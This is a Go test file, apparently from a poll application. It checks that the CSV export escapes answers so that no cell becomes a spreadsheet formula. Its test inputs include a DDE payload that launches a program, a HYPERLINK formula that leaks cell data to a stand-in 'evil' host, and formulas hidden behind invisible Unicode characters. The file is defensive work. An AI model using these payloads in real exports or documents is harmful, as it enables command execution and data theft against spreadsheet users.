package export_test

import (
	"encoding/json"
	"fmt"
	"testing"
)

// However a spreadsheet splits a file, and whatever it drops, no answer becomes a formula.
func TestNoFormulaComesOutOfAFile(t *testing.T) {
	s := setup(t)
	id := s.poll(t, "reasons = 'optional'")
	several, options := s.question(t, id, "multiple", `{}`, "A", "=cmd|' /C calc'!A0", "-5")
	s.vote(t, id, several, voter, fmt.Sprintf(`{"options":[%d,%d,%d]}`, options[0], options[1], options[2]), `ok;=HYPERLINK("http://evil/?"&A1;"clic")`)
	want := [][]string{
		{"numero", "domanda", "tipo", "risposta", "motivazione"},
		{"1", `Una "domanda"`, "multiple", "A;' =cmd|' /C calc'!A0; -5", `ok;'=HYPERLINK("http://evil/?"&A1;"clic")`},
	}
	for place, c := range [][2]string{
		{"\u200b=1+1", "'\u200b=1+1"},
		{"\ufeff=7", "'\ufeff=7"},
		{"\ufe0f\u3164@A1", "'\ufe0f\u3164@A1"},
		{"a\t=8+8", "a\t'=8+8"},
		{"riga\n =2+3", "riga\n' =2+3"},
		{"riga\r=2+3", "riga'=2+3"}, // a lone return does not get into the file
		{"riga\u2028=2+3", "riga\u2028'=2+3"},
		{`a;"=1+1"`, `a;'"=1+1"`},
		{"sì; forse = no\n-12.5", "sì; forse = no\n-12.5"},
	} {
		open, _ := s.question(t, id, "open", `{}`)
		text, err := json.Marshal(map[string]string{"text": c[0]})
		if err != nil {
			t.Fatal(err)
		}
		s.vote(t, id, open, voter, string(text), "")
		want = append(want, []string{fmt.Sprint(place + 2), `Una "domanda"`, "open", c[1], ""})
	}
	compareRows(t, s.read(t, quiet, "%d.csv", id).Body.String(), want)
}
